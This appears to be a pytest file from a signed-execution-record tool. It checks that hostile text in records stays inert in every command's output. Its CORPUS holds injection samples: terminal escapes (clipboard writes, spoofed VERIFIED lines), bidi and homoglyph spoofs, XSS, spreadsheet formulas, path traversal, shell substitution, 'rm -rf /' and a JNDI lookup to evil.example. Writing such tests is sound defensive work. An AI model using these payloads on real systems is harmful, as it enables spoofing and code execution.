"""Records written by an enemy of whoever reads them: whatever a text says, it stays text in every command's output.

`Call`, which runs the commands, asserts by itself that nothing they print acts on a terminal or cannot be seen there.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import unicodedata
from typing import TYPE_CHECKING, Any, Final

import pytest
import rfc8785
from helpers import (
    SEALED_AT,
    json_events,
    observe,
    policy_for,
    private_key,
    relink,
    seal_lines,
    signer,
    standard_record,
    write_key,
)
from test_cli import ROOT, TIMEOUT, Call, Done, environment, look_at, run_on_terminal
from test_cli_record import BAD_IDENTIFIERS, Shell, snapshot
from test_hestia import outside_of_code

from hearth_records.canonical import OPENING, encode_event
from hearth_records.errors import HearthRecordsError, JournalError, RecordingError, escape
from hearth_records.journal import Journal
from hearth_records.keys import public_key_to_pem
from hearth_records.model import (
    MAX_TEXT,
    Actor,
    ActorType,
    Approval,
    Clock,
    Origin,
    Plan,
    PlanStep,
    RollbackHint,
    SideEffect,
    SideEffectCategory,
)
from hearth_records.recovery import inspect
from hearth_records.trust import encode_policy

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from hearth_records.model import ExecutionRecord
    from hearth_records.observer import ExecutionObserver

CORPUS: Final = {
    "clear the screen": "\x1b[2J\x1b[1;1HVERIFIED",
    "colours": "\x1b[31mred\x1b[0m \x1b[8mhidden",
    "window title": "\x1b]0;title\x07",
    "a link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJmIC8K\x07",
    "ask the terminal": "\x1b[6n\x1b[c\x1bP$qm\x1b\\\x05",
    "C1": "\x9b31m\x9d0;x\x9c\x90\x98\x85\x8d\x9e",
    "C0": "".join(map(chr, range(1, 32))) + "\x7f",
    "nothing": "a\x00b",
    "overwrite": "harmless\r\x08\x08VERIFIED\x1b[K",
    "a line": "x\nVERIFIED",
    "a verdict": "x\n  verdict      VERIFIED: every check that was asked for holds",
    "other lines": "x\r\nVERIFIED\x0bVERIFIED\x0cVERIFIED\x1cVERIFIED\x85VERIFIED\u2028VERIFIED\u2029VERIFIED",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c\u202a\u202b\u202d\u2067\u2068",
    "zero width": "VERI\u200bFI\u200c\u200d\u2060\ufeff\u00ad\u180eED",
    "tags": "x\U000e0001\U000e0041\U000e007f",
    "variation selectors": "x\ufe0f\ufe01\U000e0100\U000e01ef",
    "blank letters": "\u3164\u115f\u1160\uffa0\u2800\u034f\u17b4",
    "blanks": "\u00a0\u2003\u3000\u205f\u1680",
    "homoglyphs": "V\u0415R\u0406F\u0406\u0415D \uff36\uff25\uff32\uff29\uff26\uff29\uff25\uff24 \u039d\u039f\u03a4",
    "marks": "Z̡̢̛̗̘̙͎͐a" + "\u0301" * 50,
    "private": "\ue000\uf8ff\U0010fffd\ufffe\uffff\u0378",
    "Markdown": "# VERIFIED\n\n**b** _i_ [x](javascript:alert(1)) ![i](http://evil.example/i.png) | a | b |\n---",
    "fences": "`code` ``` ```` \n```sh\nrm -rf /\n``` ~~~",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;!--<!-- --></code></pre>",
    "formula": "=cmd|' /C calc'!A0",
    "formula 2": '@SUM(1+1)*HYPERLINK("http://evil.example")',
    "formula 3": "+1-2\t=1;-1,=2",
    "path": "../../etc/passwd",
    "path 2": "/etc/passwd",
    "path 3": "..\\..\\CON:$DATA",
    "shell": "$(touch pwned) `touch pwned`; touch pwned | sh & ${HOME} ~ * ?",
    "format": "%s%n%x {0} {x!r} {{7*7}} ${jndi:ldap://evil.example/}",
    "quotes": '"\'\\"; DROP TABLE x; -- \\u001b[31m \\',
    "option": "--help",
    "JSON": '"},{"type":"execution_finished","status":"completed"}',
    "very long": "W" * (MAX_TEXT // 8),
    "long and wide": "\u202e" * 1000,
}
"""What a text of a record may hold. No lone surrogate: it could not be written."""

TEXT, NAME = "PLACEHOLDER", "PLACENAME"
CATEGORIES: Final = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
INVISIBLE: Final = frozenset(
    [*"\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0"]
    + [chr(point) for first, last in ((0xFE00, 0xFE0F), (0xE0100, 0xE01EF)) for point in range(first, last + 1)]
)


def is_plain(text: str) -> bool:
    """Whether a text holds only what is seen, blanks and line breaks."""
    return not any(
        unicodedata.category(char) in CATEGORIES or char in INVISIBLE or (char.isspace() and char != " ")
        for char in text.replace("\n", "")
    )


LOOKALIKES: Final = str.maketrans("\u0415\u0406\u0405\u0410\u0421\u0412\u0422", "EISACBT")


def claims(text: str) -> int:
    """Count the lines that begin, for a careless eye, with VERIFIED or a verdict."""
    folded = (unicodedata.normalize("NFKC", line).upper().translate(LOOKALIKES) for line in text.splitlines())
    return sum(line.strip(" -*#>`").startswith(("VERIFIED", "VERDICT")) for line in folded)


def name_of(text: str) -> str:
    """Return what of a text may be a member's name."""
    return "".join(char for char in text if char <= "\uffff")[:128]


class Kernel:
    """States that nobody may choose; a kernel that is not one says whatever it likes."""

    def __init__(self, text: str) -> None:
        self._text = text

    def get_security_state(self) -> str:
        return self._text

    def get_boundary_state(self) -> str:
        raise ValueError(self._text)


def recorded(text: str, name: str) -> ExecutionObserver:
    """Record a failed execution with `text` in every text, and `name` as every name, that a record takes."""
    effect = SideEffect(category=SideEffectCategory.SYSTEM, description=text, step_index=0)
    plan = Plan(
        plan_id="plan-1",
        steps=(PlanStep(step_index=0, step_name=text), PlanStep(step_index=7, step_name=text)),
        declared_side_effects=(effect, SideEffect(category=SideEffectCategory.SYSTEM, description=text)),
        rollback_hints=tuple(
            RollbackHint(
                step_index=index,
                description=text,
                actions=(text, text),
                required_inputs={name: text},
                risks=(text, text),
                estimated_duration=text,
            )
            for index in (0, 7)
        ),
    )
    observer = observe(
        plan=plan,
        kernel=Kernel(text),
        actor=Actor(id=text, type=ActorType.HUMAN, display_name=text, on_behalf_of=text),
        approvals=[Approval(approver=text, role=text, meaning=text, reference=text)],
        reason=text,
        change_ref=text,
        origin=Origin(host=text, software=text, clock=Clock(source=text, synchronized=None)),
        details={name: text, "nested": [{name: [text]}]},
    )
    observer.record_step_started(0, text, {name: text})
    observer.record_side_effect("system", text, reversible=False, step_index=0, details={name: text})
    observer.record_side_effect("network", text, reversible=None)
    observer.record_security_observed(text, {name: text})
    observer.record_step_failed(0, text, text, {name: text})
    observer.record_step_started(1, text, phase="cleanup")
    observer.mark_failed(text, {name: text})
    return observer


class Reader:
    """Runs every command that shows something of a record, over one that holds a text."""

    def __init__(self, call: Call, path: Path) -> None:
        self.call = call
        self.path = path
        path.mkdir()

    def write(self, text: str, name: str) -> None:
        observer = recorded(text, name)
        data = observer.seal(signer(), sealed_at=SEALED_AT).data
        (self.path / "exec-1.record.json").write_bytes(data)
        lines = data.splitlines(keepends=True)
        (self.path / "open").mkdir(exist_ok=True)
        (self.path / "open" / "exec-1.journal").write_bytes(b"".join(lines[:-2]) + b',{"torn')
        policy = json.loads(encode_policy(policy_for(signer()).document))
        policy["keys"][0]["name"] = text
        (self.path / "trust.json").write_text(json.dumps(policy))

    def __call__(self, name: str, *arguments: str) -> Done:
        done = self.call(name, *arguments, cwd=self.path)
        assert is_plain(done.out)
        assert is_plain(done.err)
        return done


@pytest.fixture
def reader(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Reader:
    return Reader(Call(capsys, monkeypatch), tmp_path / "given")


RECORD: Final = "exec-1.record.json"
JOURNAL: Final = "open/exec-1.journal"
TRUST: Final = ("--trust", "trust.json")
AS_TEXT: Final[list[tuple[Any, ...]]] = [
    (0, "verify-record", *TRUST, RECORD),
    (5, "verify-record", *TRUST, JOURNAL),
    (4, "verify-record", "--no-trust", RECORD),
    (0, "hearth-records", "show", *TRUST, RECORD),
    (0, "hearth-records", "show", "--unverified", JOURNAL),
    (0, "regenerate-scaffold", *TRUST, "--format", "text", RECORD),
    (0, "regenerate-scaffold", "--unverified", "--format", "text", JOURNAL),
    (0, "validate-record", RECORD),
    (3, "validate-record", JOURNAL),
    (5, "hearth-records", "recover", JOURNAL),
    (0, "hearth-records", "record", "status", JOURNAL),
]
"""Commands whose output has a line for each thing it says, with what they end with."""
AS_MARKDOWN: Final[list[tuple[Any, ...]]] = [
    (0, "regenerate-scaffold", *TRUST, RECORD),
    (0, "regenerate-scaffold", "--unverified", JOURNAL),
]
AS_JSON: Final[list[tuple[Any, ...]]] = [
    (0, "verify-record", *TRUST, "--format", "json", RECORD),
    (5, "verify-record", *TRUST, "--format", "json", JOURNAL),
    (0, "regenerate-scaffold", *TRUST, "--format", "json", RECORD),
]


def without_numbers(text: str) -> str:
    """Return a text without what differs between any two records: digests, and the place of a fault."""
    return re.sub("[0-9a-f]{64}", "H", re.sub("(char|character) [0-9]+", "char N", text))


TEMPLATES: Final[dict[tuple[str, ...], Done]] = {}


@pytest.fixture
def templates(reader: Reader) -> dict[tuple[str, ...], Done]:
    """Return what each command prints of a harmless record, in which `TEXT` and `NAME` stand for the texts."""
    if not TEMPLATES:
        reader.write(TEXT, NAME)
        for code, *words in (*AS_TEXT, *AS_MARKDOWN):
            TEMPLATES[tuple(words)] = done = reader(*words)
            assert done.code == code
    return TEMPLATES


@pytest.mark.parametrize("which", CORPUS)
def test_a_text_stays_text_in_every_output(reader: Reader, templates: dict[tuple[str, ...], Done], which: str) -> None:
    text = CORPUS[which]
    reader.write(text, name_of(text))
    for code, *words in AS_TEXT:
        template, done = templates[tuple(words)], reader(*words)
        assert done.code == code
        for expected, found in ((template.out, done.out), (template.err, done.err)):
            shown = expected.replace(TEXT, escape(text)).replace(NAME, escape(name_of(text)))
            assert without_numbers(found) == without_numbers(shown)
            assert claims(found) == claims(expected)
    for code, *words in AS_MARKDOWN:
        template, done = templates[tuple(words)], reader(*words)
        assert (done.code, done.err) == (code, "")
        assert outside_of_code(done.out) == outside_of_code(template.out)
        assert claims(done.out) == claims(template.out)
        assert escape(text) in done.out
    for code, *words in AS_JSON:
        done = reader(*words)
        assert (done.code, done.err, done.out.count("\n")) == (code, "", 1)
        assert done.out.isascii()
        assert (text in list(texts_of(done.json))) == (RECORD in words)


def texts_of(value: Any) -> Iterator[str]:
    """Yield every text in a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, (dict, list)):
        for item in value.values() if isinstance(value, dict) else value:
            yield from texts_of(item)


ALL: Final = "".join(text for which, text in CORPUS.items() if "long" not in which)
"""All of them in one text."""


def test_everything_at_once_in_an_output_file(reader: Reader) -> None:
    reader.write(ALL, name_of(ALL))
    for form in ("md", "text", "json"):
        done = reader("regenerate-scaffold", *TRUST, "--format", form, "-o", f"out.{form}", RECORD)
        assert done == Done(0, "", "")
        assert is_plain((reader.path / f"out.{form}").read_text(encoding="utf-8"))


def test_everything_at_once_on_a_terminal(reader: Reader) -> None:
    reader.write(ALL, name_of(ALL))
    for code, name, *arguments in (AS_TEXT[0], AS_TEXT[3], AS_TEXT[5], AS_TEXT[9], AS_MARKDOWN[0], AS_JSON[2]):
        here = [str(reader.path / word) if (reader.path / word).exists() else word for word in arguments]
        done = run_on_terminal(name, *here)
        assert done.code == code
        assert is_plain(re.sub("\x1b\\[[0-9]+m", "", done.out) if name == "verify-record" else done.out)


def test_everything_at_once_in_the_programs_that_stand_alone(reader: Reader) -> None:
    reader.write(ALL, name_of(ALL))
    for program, *arguments in (
        ("verify_record", *TRUST, RECORD, JOURNAL),
        ("verify_record", *TRUST, "--format", "json", RECORD),
        ("regenerate_scaffold", *TRUST, RECORD),
        ("regenerate_scaffold", *TRUST, "--format", "json", RECORD),
        ("validate_record", RECORD),
    ):
        done = subprocess.run(
            [sys.executable, ROOT / "tools" / f"{program}.py", *arguments],
            check=False,
            capture_output=True,
            cwd=reader.path,
            env=environment(),
            timeout=TIMEOUT,
        )
        shown = look_at(done.returncode, done.stdout, done.stderr)
        assert shown.code == (5 if JOURNAL in arguments else 0)
        assert is_plain(shown.out)
        assert shown.err == ""
        assert claims(shown.out) <= 2  # one for each file


# --- what is no record, and says so in its own words -----------------------------------------------------------------


def change(where: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """Return what sets a member of an event, named by its path."""
    *path, last = where.split("/")

    def set_member(event: dict[str, Any]) -> None:
        for name in path:
            event = event[name]
        event[last] = value

    return set_member


WRONG_EVENTS: Final[dict[str, tuple[int, Callable[[dict[str, Any]], None]]]] = {
    "a type": (1, change("type", ALL)),
    "a member": (1, lambda event: event.update({name_of(ALL): ALL})),
    "a member of a member": (0, lambda event: event["plan"].update({name_of(ALL): 1})),
    "a format": (0, change("format", ALL)),
    "an execution": (0, change("execution_id", ALL)),
    "a path": (0, change("execution_id", "../../exec-1")),
    "a plan": (0, change("plan/plan_id", ALL)),
    "a mode": (0, change("live_mode_state", ALL)),
    "a state": (0, change("security_snapshot/security_state", ALL)),
    "a phase": (1, change("phase", ALL)),
    "a step": (3, change("step_name", ALL)),
    "an index": (1, change("step_index", ALL)),
    "a time": (1, change("timestamp", ALL)),
    "a category": (2, change("category", ALL)),
    "a status": (-1, change("status", ALL)),
    "a cause": (-1, change("cause", ALL)),
    "too long": (-1, change("completion_reason", "\u202e" * (MAX_TEXT + 1))),
    "a reserved name": (1, lambda event: event["details"].update({"...": ALL})),
}


def lines_of(record: ExecutionRecord) -> list[bytes]:
    """Return the canonical bytes of a record's events."""
    return [encode_event(event) for event in record.events]


def commands_on(record: str, journal: str) -> list[list[str]]:
    """Return every command that would show something of a record and of an open journal."""
    return [
        ["verify-record", *TRUST, record, journal],
        ["verify-record", *TRUST, "--allow-reformatted", "--format", "json", record, journal],
        ["validate-record", record],
        *(["regenerate-scaffold", "--unverified", "--format", form, journal] for form in ("md", "json", "text")),
        ["hearth-records", "show", *TRUST, record],
        ["hearth-records", "show", "--unverified", journal],
        ["hearth-records", "recover", journal],
        ["hearth-records", "recover", journal, "--close", "--reason", "x", "--key", "key.pem"],
        ["hearth-records", "record", "status", journal],
        ["hearth-records", "record", "effect", journal, "--category", "other", "--name", "x"],
    ]


def check_that_all_refuse(reader: Reader, record: bytes, journal: bytes) -> None:
    """Every command ends with an error over these files, claims nothing, and writes nothing."""
    reader.write("x", "x")
    (reader.path / RECORD).write_bytes(record)
    (reader.path / JOURNAL).write_bytes(journal)
    write_key(reader.path / "key.pem", private_key())
    before = snapshot(reader.path)
    for words in commands_on(RECORD, JOURNAL):
        done = reader(*words)
        if words[0] == "verify-record":
            assert (done.code in (1, 3), done.err) == (True, "")
            assert "json" in words or claims(done.out) == 2
        else:
            assert done.code != 0 or words[0] == "validate-record"  # a wrong order of events has a good shape
            assert (claims(done.out), claims(done.err)) == (0, 0)
            assert done.err.count("\n") <= 2
    assert snapshot(reader.path) == before


@pytest.mark.parametrize("which", WRONG_EVENTS)
def test_what_is_wrong_with_an_event_is_said_in_plain_text(reader: Reader, which: str) -> None:
    place, alter = WRONG_EVENTS[which]
    record = standard_record()
    events = json_events(seal_lines(lines_of(record), record))
    alter(events[place])
    lines = relink(events)
    check_that_all_refuse(reader, seal_lines(lines, record), OPENING + b"\n,".join(lines) + b"\n")


WRONG_SEALS: Final[dict[str, Callable[[dict[str, Any]], None]]] = {
    "a subject": change("statement/subject", [{"digest": {"sha256": "0" * 64}, "name": ALL}]),
    "a type": change("statement/_type", ALL),
    "an execution": change("statement/predicate/execution_id", "../../exec-1"),
    "an algorithm": lambda seal: seal["statement"]["predicate"]["signers"][0].update(algorithm=ALL),
    "a key": lambda seal: seal["signatures"][0].update(keyid=ALL),
    "a signature": lambda seal: seal["signatures"][0].update(sig=ALL),
    "evidence": change("evidence", [{"data": ALL, "type": ALL}]),
    "a member": lambda seal: seal.update({name_of(ALL): ALL}),
}


@pytest.mark.parametrize("which", WRONG_SEALS)
def test_what_is_wrong_with_a_seal_is_said_in_plain_text(reader: Reader, which: str) -> None:
    record = standard_record()
    *lines, closing = seal_lines(lines_of(record), record).splitlines(keepends=True)
    document = json.loads(closing.replace(b"],", b"{", 1))
    WRONG_SEALS[which](document["seal"])
    sealed = b"".join(lines) + b"]," + rfc8785.dumps(document)[1:] + b"\n"
    check_that_all_refuse(reader, sealed, sealed)


@pytest.mark.parametrize("disclosure", [ALL, "\x1b[31m", "../../x"])
def test_what_is_wrong_with_a_disclosure_is_said_in_plain_text(reader: Reader, disclosure: str) -> None:
    record = standard_record()
    sealed = seal_lines(lines_of(record), record)
    bad = sealed.replace(b'"disclosures":[]', b'"disclosures":' + rfc8785.dumps([disclosure]))
    assert bad != sealed
    check_that_all_refuse(reader, bad, bad)


# --- what comes from the command line --------------------------------------------------------------------------------


@pytest.fixture
def shell(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Shell:
    (tmp_path / "here").mkdir()
    return Shell(Call(capsys, monkeypatch), tmp_path / "here")


@pytest.mark.parametrize("which", [which for which in CORPUS if which != "nothing"])  # no argument holds a NUL
def test_a_text_on_the_command_line_is_recorded_and_repeated_as_text(shell: Shell, which: str) -> None:
    text = CORPUS[which]
    name = name_of(text).replace("=", "") or "x"
    name = name.rstrip(":") or "x"
    shell.start("--reason", text, "--actor", text, "--change-ref", text, "--detail", f"{name}={text}")
    before = snapshot(shell.path)
    step = ("--step", "0")
    refused = [
        ("step-complete", *step, "--name", text),
        ("step-start", "--step", text, "--name", "x"),
        ("effect", "--category", text, "--name", "x"),
        ("effect", "--category", "other", "--name", "x", "--detail", text.replace("=", "")),
        ("effect", "--category", "other", "--name", "x", "--detail", f"{name}:=\x1b{text}"),
        ("finish", "--status", text, "--reason", "x"),
        ("seal", "--key", text[:100]),
        ("run", *step, "--name", "x", f"--{text}", "--", "true"),
    ]
    for words in refused:
        done = shell.record(*words)
        assert (done.code in (2, 3, 125), done.out, claims(done.err)) == (True, "", 0)
        assert is_plain(done.err)
    for done in (
        shell.call("record", text),
        shell.call("record", "start", ".", "--id", text, "--plan-id", "p"),
        shell.call("record", "start", text[:100], "--id", "other", "--plan-id", "p"),
        shell.call("record", "start", ".", "--id", "other", "--plan", text[:100]),
        shell.call("record", "status", "--", f"{text[:100]}.journal"),
        shell.call("recover", f"{text[:100]}.journal"),
    ):
        assert (done.code in (0, 2, 3), claims(done.err)) == (True, 0) or "--help" in text
        assert is_plain(done.err)
    assert snapshot(shell.path) == before
    assert shell.record("step-start", *step, "--name", text, "--detail", f"{name}={text}") == Done(0, "", "")
    assert shell.record("effect", "--category", "other", "--name", text) == Done(0, "", "")
    assert shell.record("step-fail", *step, "--error", text) == Done(0, "", "")
    assert shell.record("finish", "--status", "failed", "--reason", text) == Done(0, "", "")
    first, step_event, effect, failed, last = shell.events
    assert first["details"] == step_event["details"]
    for found in (
        *(first["reason"], first["actor"]["id"], first["change_ref"], step_event["step_name"], effect["description"]),
        *(failed["error_message"], last["completion_reason"]),
    ):
        assert found == text


def test_names_of_files_are_shown_as_text(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    odd = "\x1b[31m\nVERIFIED\r\u202e\u200b\x9b" + os.fsdecode(b"\xff") + "`#<b>"
    shell.path = shell.path / odd
    shell.path.mkdir()
    with Journal.create(shell.path, "exec-1") as journal:
        observer = observe(journal=journal)
        path = journal.path
        locked = [shell.call("record", "status", path), shell.call("recover", path)]
        locked.append(shell.call("record", "effect", path, "--category", "other", "--name", "x"))
        observer.mark_completed("x")
    shell.journal = shell.path / "exec-1.journal"
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    shown = [
        shell.call("record", "status", path),
        shell.call("recover", path),
        shell.call("record", "effect", path, "--category", "other", "--name", "x"),
        shell.call("record", "seal", path, "--key", shell.path / "missing.pem"),
        shell.call("record", "start", shell.path / "missing", "--id", "x", "--plan-id", "x"),
        shell.call("record", "start", ".", "--id", "x", "--plan", shell.path),
    ]
    assert [done.code for done in (*locked, *shown)] == [0, 5, 3, 0, 5, 2, 3, 3, 3]
    for done in (*locked, *shown):
        assert is_plain(done.out)
        assert is_plain(done.err)
        assert (claims(done.out), claims(done.err)) == (0, 0)
    key = shell.path / "key.pem"
    write_key(key, private_key())
    sealed = run_on_terminal("hearth-records", "record", "seal", path, "--key", key)
    assert (sealed.code, sealed.out.count("\n"), is_plain(sealed.out)) == (0, 1, True)
    assert shell.call("record", "status", path).code == 0


# --- where files are written -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("identifier", [*BAD_IDENTIFIERS, "..", ".", "a\0b", "a/../../b", "~/x", *CORPUS.values()])
def test_an_identifier_is_never_a_path(tmp_path: Path, identifier: str) -> None:
    given = tmp_path / "given"
    given.mkdir()
    with pytest.raises(JournalError):
        Journal.create(given, identifier)
    with pytest.raises(RecordingError):
        observe(identifier)
    with pytest.raises(RecordingError):
        observe(plan=identifier)
    with pytest.raises((HearthRecordsError, OSError, ValueError)):
        inspect(given / f"{identifier}.journal")
    assert snapshot(given) == {str(given): None}


def test_nothing_is_written_outside_the_directory_that_was_given(
    reader: Reader, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "sentinel").write_bytes(b"as it was")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    paths = "".join(text for which, text in CORPUS.items() if which.startswith("path")) + "../x.record.json"
    reader.write(paths, name_of(paths))
    write_key(reader.path / "key.pem", private_key())
    (reader.path / "key.pub.pem").write_bytes(public_key_to_pem(signer().public_key))
    for _code, *words in (*AS_TEXT, *AS_MARKDOWN, *AS_JSON):
        reader(*words)
    closed = reader("hearth-records", "recover", JOURNAL, "--close", "--reason", paths, "--key", "key.pem")
    assert closed.code == 0
    assert sorted(path.name for path in tmp_path.iterdir()) == ["given", "sentinel"]
    assert (tmp_path / "sentinel").read_bytes() == b"as it was"
    assert sorted(path.name for path in (reader.path / "open").iterdir()) == ["exec-1.record.json", "exec-1.torn"]
    assert sorted(path.name for path in reader.path.iterdir()) == [
        "exec-1.record.json",
        "key.pem",
        "key.pub.pem",
        "open",
        "trust.json",
    ]
